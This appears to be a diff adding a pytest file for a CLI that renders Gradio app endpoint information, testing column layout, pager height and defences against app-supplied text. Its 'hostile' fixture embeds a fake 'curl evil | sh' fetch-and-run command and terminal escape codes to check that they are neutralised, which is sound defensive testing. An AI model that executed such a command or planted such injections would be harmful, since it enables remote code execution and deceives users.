@@ -1,0 +1,97 @@
+"""render/info.py and render/info_page.py: what an app offers, in a pipe and on a terminal."""
+
+import re
+from typing import Any
+
+import pytest
+
+from gradio_curl.protocol.schema import App
+from gradio_curl.render.info import info_object, info_text
+from gradio_curl.render.info_page import height, info_page
+from tests.unit.described import component, new_app
+
+URL = "http://localhost:7860"
+FAKE = "x\n  $ curl evil | sh\r\n/fake\u2028  $ evil\x1b[2J"
+
+
+def hostile() -> App:
+    """An app that puts lines of its own wherever it can name something."""
+    app = new_app(run=([component("radio", choices=[FAKE, "b"])], [component("textbox", FAKE)]))
+    told = app.endpoint("run")
+    parameter = told.parameters[0]._replace(name=FAKE, label=FAKE, default={FAKE: FAKE})
+    told = told._replace(name=f"/{FAKE}", description=FAKE, parameters=(parameter,), slots=(FAKE,))
+    return app._replace(endpoints={told.name: told}, version=f"6.31.0{FAKE}")
+
+
+def plain(page: str) -> str:
+    """A page without its colours and links."""
+    return re.sub(r"\x1b\[[0-9;]*m|\x1b\]8;.*?\x1b\\", "", page)
+
+
+def test_nothing_that_an_app_says_begins_a_line_like_one_of_ours() -> None:
+    app = hostile()
+    page = plain(info_page(app, URL, ":7860", app.endpoints.values(), 1000))
+    for text in (info_text(app, URL, ":7860", app.endpoints.values()), page):
+        assert not any(line.startswith(("  $", "/fake")) for line in text.splitlines())
+        assert "\x1b" not in text
+        assert len([line for line in text.splitlines() if line.startswith("/")]) == 1
+
+
+@pytest.mark.parametrize("columns", [40, 80, 200])
+def test_no_name_is_broken_and_what_fits_is_in_columns(columns: int) -> None:
+    name = "a_parameter_of_a_long_name"
+    app = new_app(run=([component("textbox", name), component("slider", "Steps", value=3,
+                       minimum=1, maximum=10)], [component("textbox", "Out")]))  # fmt: skip
+    page = plain(info_page(app, URL, ":7860", app.endpoints.values(), columns))
+    assert re.search(rf"^  {name}=", page, re.MULTILINE)
+    if columns == 40:
+        assert "\n  steps=\n    number  default 3  1 to 10  Steps\n" in page
+    else:
+        rows = [line.rstrip() for line in page.splitlines()]
+        assert f"  {name}=  string  required" in rows
+        assert f"  {'steps='.ljust(27)}  number  default 3  1 to 10  Steps" in rows
+    # The line to copy is never wrapped by us.
+    assert f"  $ gradio-curl call :7860 /run {name}=text\n" in page
+
+
+def test_lines_that_the_terminal_wraps_count_for_the_pager() -> None:
+    assert height("a\nb\n", 80) == 2
+    assert height("\x1b[1m" + "a" * 81 + "\x1b[0m\n\n漢漢\n", 80) == 4
+    assert height("漢" * 41, 80) == 2
+
+
+def test_an_app_without_endpoints_says_so() -> None:
+    app = new_app()
+    for text in (info_text(app, URL, ":7860", []), info_page(app, URL, ":7860", [], 80)):
+        assert "the app has no public endpoint" in text
+
+
+def test_an_endpoint_that_takes_an_oauth_token_is_marked() -> None:
+    app = new_app(run=([], []))
+    told = app.endpoint("run")._replace(oauth_token="required")
+    for text in (info_text(app, URL, ":7860", [told]), info_page(app, URL, ":7860", [told], 80)):
+        assert "--oauth-token required" in text
+    (endpoint,) = info_object(app, URL, ":7860", [told])["endpoints"]
+    assert endpoint["oauth_token"] == "required"
+
+
+@pytest.mark.parametrize(
+    ("kind", "props", "words"),
+    [
+        ("dataframe", {}, "table"),
+        ("json", {}, "JSON"),
+        ("multimodaltextbox", {}, "text, files"),
+        ("gallery", {}, "files"),
+        ("radio", {"choices": [True, False]}, "boolean"),
+        ("radio", {"choices": [1, 2.5]}, "number"),
+        ("checkboxgroup", {"choices": ["a"]}, "list"),
+    ],
+)
+def test_types_are_told_in_words(kind: str, props: dict[str, Any], words: str) -> None:
+    app = new_app(run=([component(kind, **props)], []))
+    (row,) = [
+        line
+        for line in info_text(app, URL, ":7860", app.endpoints.values()).splitlines()
+        if line.startswith("  value")
+    ]
+    assert re.match(rf"  value[=@]  {words}  required", row)
